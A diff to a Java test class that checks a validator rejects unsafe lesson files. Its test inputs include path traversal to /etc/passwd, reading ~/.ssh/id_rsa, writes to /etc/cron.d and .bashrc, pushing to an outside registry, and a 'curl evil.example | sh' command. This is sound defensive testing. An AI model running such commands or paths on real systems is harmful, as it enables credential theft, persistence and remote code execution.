@@ -28,6 +28,8 @@ class UntrustedLessonsTest {
         check("path traversal in a file check", "{type: file, path: ../../etc/passwd}", "steps[0].checks[0].path", "inside the workspace"),
         check("absolute path in a file check", "{type: file, path: /etc/passwd}", "steps[0].checks[0].path", "inside the workspace"),
         check("traversal in a docker-archive check", "{type: docker-archive, path: sub/../../x.tar}", "steps[0].checks[0].path", "inside the workspace"),
+        check("a home path in a file check", "{type: file, path: '~/.ssh/id_rsa'}", "steps[0].checks[0].path", "inside the workspace"),
+        check("a backslash path in an image check", "{type: image, ref: busybox, sameIdAsArchive: '..\\b.tar'}", "steps[0].checks[0].sameIdAsArchive", "inside the workspace"),
         check("a host on the internet", "{type: http, url: 'http://example.com/'}", "steps[0].checks[0].url", "only localhost"),
         check("a host named like localhost", "{type: http, url: 'http://localhost.evil.example/'}", "steps[0].checks[0].url", "only localhost"),
         check("user info that hides the host", "{type: http, url: 'http://localhost@evil.example/'}", "steps[0].checks[0].url", "only localhost"),
@@ -39,6 +41,8 @@ class UntrustedLessonsTest {
         setup("an absolute path in write-file", "{action: write-file, path: /etc/cron.d/dlt-hard, content: x}", "setup[0].path", "inside the workspace"),
         setup("traversal in write-file", "{action: write-file, path: ../../.bashrc, content: x}", "setup[0].path", "inside the workspace"),
         setup("traversal in remove-file", "{action: remove-file, path: ../progress.json}", "setup[0].path", "inside the workspace"),
+        setup("a home path in save-image", "{action: save-image, image: busybox:latest, path: '~/b.tar'}", "setup[0].path", "inside the workspace"),
+        setup("a registry on the internet in push-image", "{action: push-image, image: myapp:latest, to: 'evil.example/myapp'}", "setup[0].to", "local registry"),
         setup("an unknown field in an action", "{action: write-file, path: a.txt, content: x, mode: '4755'}", "setup[0].mode", "unknown field"),
         Arguments.of("an unknown top-level field", "id: x\ntitle: T\nsummary: S\nrun: 'curl evil.example | sh'\n" + steps("{type: file, path: a}"), "run", "unknown field"));
   }
